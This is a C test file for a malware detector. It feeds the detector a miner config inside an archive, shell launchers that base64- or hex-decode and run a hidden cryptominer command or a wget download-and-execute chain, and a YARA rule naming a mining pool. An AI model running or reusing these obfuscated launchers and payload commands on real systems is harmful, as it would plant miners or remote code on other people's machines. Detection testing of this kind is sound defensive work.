		static unsigned char arc[1 << 16];
		size_t an = mkarchive(0, m, 2, arc, sizeof(arc));
		REQUIRE_TRUE(an > 0);
		ct_judge_bytes(&j, "/home/u/tools.tar.gz", arc, an, 0, v);
		ASSERT_INT_EQ(v->nothing, 0);
		ASSERT_STR_EQ(v->what, "miner_config");
		ASSERT_INT_GE(v->sev, MT_SEV_HIGH);
		ASSERT_STR_CONTAINS(v->reasons, "in_archive:pkg/etc/config.json");
		ASSERT_STR_EQ(v->decoded, "archive member");
		/* the same archive with the configuration left out: nothing */
		an = mkarchive(0, m, 1, arc, sizeof(arc));
		REQUIRE_TRUE(an > 0);
		ct_judge_bytes(&j, "/home/u/tools.tar.gz", arc, an, 0, v);
		ASSERT_INT_EQ(v->nothing, 1);
		ASSERT_STR_LACKS(v->reasons, "in_archive:");
		free(cfg);
	} else {
		fprintf(stderr, "  (skipped: no %s)\n", SAMPLES "/xmrig-config.json");
	}
	TEST_DONE();

	TEST_START("judge: a launcher with a base64 payload");
	static const char cmd[] =
		"/tmp/.x/kswapd0 -o stratum+tcp://pool.supportxmr.com:3333 -u " XMR_WALLET " -p x";
	char b64[512], script[1024];
	REQUIRE_TRUE(b64enc((const unsigned char *)cmd, strlen(cmd), b64, sizeof(b64)));
	snprintf(script, sizeof(script), "#!/bin/sh\necho %s | base64 -d | sh\n", b64);
	ct_judge_bytes(&j, "/tmp/x.sh", (const unsigned char *)script, strlen(script), 0, v);
	ASSERT_INT_EQ(v->nothing, 0);
	ASSERT_INT_GE(v->sev, MT_SEV_HIGH);
	ASSERT_STR_EQ(v->decoded, "base64");
	ASSERT_STR_CONTAINS(v->reasons, "encoded_payload");
	ASSERT_STR_EQ(v->wallet, XMR_WALLET);
	ASSERT_STR_CONTAINS(v->line, "base64 -d");
	TEST_DONE();

	TEST_START("judge: a launcher with a hex payload");
	/* the decoded command must start with its own first word ("wget"), whatever the
	 * word before the hex ("echo": e and c are hex digits) */
	static const char dl[] =
		"wget -q http://203.0.113.9/k -O /tmp/.k && chmod +x /tmp/.k && /tmp/.k";
	char hex[256];
	for (size_t i = 0; i < strlen(dl); i++)
		snprintf(hex + 2 * i, 3, "%02x", (unsigned char)dl[i]);
	snprintf(script, sizeof(script), "#!/bin/sh\necho %s | xxd -r -p | bash\n", hex);
	ct_judge_bytes(&j, "/tmp/x.sh", (const unsigned char *)script, strlen(script), 0, v);
	ASSERT_INT_EQ(v->nothing, 0);
	ASSERT_INT_GE(v->sev, MT_SEV_HIGH);
	ASSERT_STR_EQ(v->decoded, "hex");
	ASSERT_STR_CONTAINS(v->reasons, "encoded_payload");
	ASSERT_STR_CONTAINS(v->reasons, "download_exec");
	TEST_DONE();

	TEST_START("judge: a defender's rules name miners without being one");
	static const char yar[] =
		"rule xmrig_cfg {\n strings:\n  $a = \"stratum+tcp://pool.supportxmr.com:3333\"\n"
		"  $w = \"" XMR_WALLET
		"\"\n  $k = \"donate-level\"\n condition:\n  any of them\n}\n";
	ct_judge_bytes(&j, "/opt/yara/miners.yar", (const unsigned char *)yar, strlen(yar), 0, v);
	ASSERT_INT_EQ(v->defender, 1);
	ASSERT_STR_EQ(v->defender_what, "yara_rules");
	ASSERT_INT_EQ(v->sev, MT_SEV_INFO);
	TEST_DONE();
	free(v);
}

int main(void)
{
	REQUIRE_INT_EQ(mt_rules_new(&rules), MT_OK);
	REQUIRE_INT_EQ(mt_rules_load_builtin(rules, NULL, NULL), MT_OK);
	test_zip_bomb();
	test_archives();
	test_wallets();
	test_unwrap();
	test_defender();
	test_judge();
	mt_rules_free(rules);
	return T_DONE();
}
